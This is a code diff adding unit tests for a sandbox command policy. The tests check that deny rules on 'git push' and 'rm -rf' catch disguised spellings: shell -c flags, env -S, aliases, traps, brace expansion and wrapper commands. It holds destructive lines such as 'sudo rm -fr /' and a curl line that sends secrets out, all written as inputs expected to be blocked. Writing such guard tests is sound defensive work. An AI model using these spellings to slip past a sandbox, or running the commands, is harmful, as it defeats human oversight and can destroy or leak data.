@@ -215,3 +215,127 @@ describe('globToRegExp', () => {
     expect(globToRegExp('echo *x').test('echo')).toBe(false)
   })
 })
+
+describe('evaluateCommand against hidden spellings (deny rules under default allow)', () => {
+  const guard = defineSandboxPolicy({ commands: { deny: ['git push *', 'rm -rf *'] } })
+  const strict = defineSandboxPolicy({ default: 'deny', commands: { allow: ['git *', 'ls *', 'rm *', 'find *', 'env *', 'bash *', 'echo *', 'trap *', 'alias *'] } })
+  const denied = (group: string, lines: readonly string[]) => {
+    for (const line of lines) expect(evaluateCommand(guard, line), `${group}: ${JSON.stringify(line)}`).toBe('deny')
+  }
+
+  it('reads shell options before -c (sh, bash, dash, zsh, ash)', () => {
+    denied('shell options', [
+      "bash -O extglob -c 'git push'",
+      "bash +O extglob -c 'git push'",
+      "sh -o errexit -c 'git push'",
+      "dash +o posix -c 'git push'",
+      "bash -lc 'git push'",
+      "bash -ec 'git push'",
+      "bash --norc --login -c 'git push'",
+      "bash --rcfile /dev/null -c 'git push'",
+      "zsh -o extendedglob -c 'git push'",
+      "ash -e -c 'git push'",
+      "bash -c -x 'git push' name",
+      "bash -C -c 'git push'",
+      "fish --command='git push'",
+    ])
+  })
+
+  it('reads env options, -S and --split-string', () => {
+    denied('env', ["env -S 'git push'", "env --split-string='git push origin'", "env -S'git push'", 'env -u HOME git push', 'env -i git push', 'env - git push', 'env -C /tmp git push', 'env -- git push', 'env -iu HOME A=1 git push'])
+  })
+
+  it('judges function bodies, aliases and trap actions as hidden commands', () => {
+    denied('hidden commands', [
+      'function f { git push; }; f',
+      'function f() { git push; }; f',
+      'f() { git push; }; f',
+      'coproc c { git push; }',
+      'alias g=git; g push',
+      'alias g=git\ng push origin',
+      "alias p='git push'\np",
+      "eval 'alias g=git'\ng push",
+      "trap 'git push' EXIT",
+      "trap -- 'rm -rf /tmp/x' EXIT INT",
+    ])
+  })
+
+  it('expands braces and reads unquoted globs as any word they could become', () => {
+    denied('expansion', ['{git,push}', 'git {push,pull}', 'git pu{sh,ll} origin', 'git p{u,x}sh', 'git pu{s..s}h', 'git p{u..u}sh', 'git p*sh', 'git pu?h', 'git pu[s]h', 'git p[a-z]sh origin', 'rm -r[f] x', '$"git" push', '$"git" "push"'])
+  })
+
+  it('sees past git global options', () => {
+    denied('git options', ['git -C . push origin', 'git -c x.y=1 push', 'git --no-pager push', 'git --git-dir=x push', 'git --git-dir x --work-tree y push', 'git -p --bare --literal-pathspecs push', 'git --namespace n --exec-path=/x push', 'sudo git -C /repo push'])
+  })
+
+  it('matches rm flags in any spelling, order or grouping', () => {
+    denied('rm flags', ['rm -fr x', 'rm -Rf x', 'rm -r -f x', 'rm --recursive --force x', 'rm -R --force x', 'rm -rfv x', 'rm -v -f -r x', 'rm x -rf', 'rm -rf', 'sudo rm -fr /'])
+    expect(evaluateCommand(guard, 'rm -r x'), 'one flag of the two is not the rule').toBe('allow')
+    expect(evaluateCommand(guard, 'rm -- -rf'), 'after --, -rf is a file').toBe('allow')
+  })
+
+  it('sees past more wrappers and into find -exec, script -c, su -c, flock -c and watch', () => {
+    denied('wrappers', [
+      'setsid git push',
+      'setsid -f git push',
+      'flock /tmp/lock git push',
+      'flock -w 5 /tmp/lock git push',
+      "flock /tmp/lock -c 'git push'",
+      'ionice -c 3 git push',
+      'ionice -c3 -n7 git push',
+      'taskset 0x3 git push',
+      'taskset -c 0,1 git push',
+      'chrt 10 git push',
+      'chrt -r 10 git push',
+      'unshare -r git push',
+      'unshare --map-user=0 -m git push',
+      'stdbuf -oL git push',
+      'stdbuf -o L git push',
+      'nice -n 10 git push',
+      'nice -5 git push',
+      'timeout -k 5 --signal=KILL 10 git push',
+      'timeout --preserve-status 10 git push',
+      "script -qc 'git push' /dev/null",
+      "script -q -c 'git push' /dev/null",
+      "su -c 'git push' root",
+      'find . -exec git push \\;',
+      'find . -name x -execdir rm -rf {} +',
+      'find . -ok git push ;',
+      'xargs -I {} git push',
+      'xargs -n 1 -0 -P 4 git push',
+      'watch -n 1 git push',
+      "watch 'git push'",
+      'chroot / git push',
+      'busybox rm -rf x',
+    ])
+    expect(evaluateCommand(guard, 'find . -name "*.o" -delete')).toBe('allow')
+    expect(evaluateCommand(guard, 'find . -exec grep -l push {} +')).toBe('allow')
+  })
+
+  it('does not over-reach on quoted text and plain words', () => {
+    for (const line of ["echo '{git,push}'", "git commit -m 'p*sh {a,b}'", 'echo "git push"', "git log --grep='alias g=git'", 'rm -r x', 'git push-it', 'echo ${HOME}', 'ls [', '[ -f x ]', 'find . -exec echo {} \\;']) {
+      expect(evaluateCommand(guard, line), JSON.stringify(line)).toBe('allow')
+    }
+  })
+
+  it('never lets these spellings widen an allow rule: they get the default under default deny', () => {
+    for (const line of [
+      "bash -O extglob -c 'ls'",
+      "env -S 'ls'",
+      'function f { ls; }; f',
+      'echo {a,b}',
+      'ls *.ts',
+      'ls src/?.ts',
+      'ls [ab]',
+      'alias l=ls; l',
+      "trap 'ls' EXIT",
+      "find . -exec curl -d @secrets x {} +",
+      'git -C . push',
+    ]) {
+      expect(evaluateCommand(strict, line), JSON.stringify(line)).toBe(line === 'git -C . push' ? 'allow' : 'deny')
+    }
+    expect(evaluateCommand(strict, "find . -exec ls {} +"), 'the -exec command must be allowed too').toBe('allow')
+    expect(evaluateCommand(strict, '$"ls" -la'), '$"…" may be translated: opaque').toBe('deny')
+    expect(evaluateCommand(guard, 'echo ${x:-$(git push)}')).toBe('deny')
+  })
+})
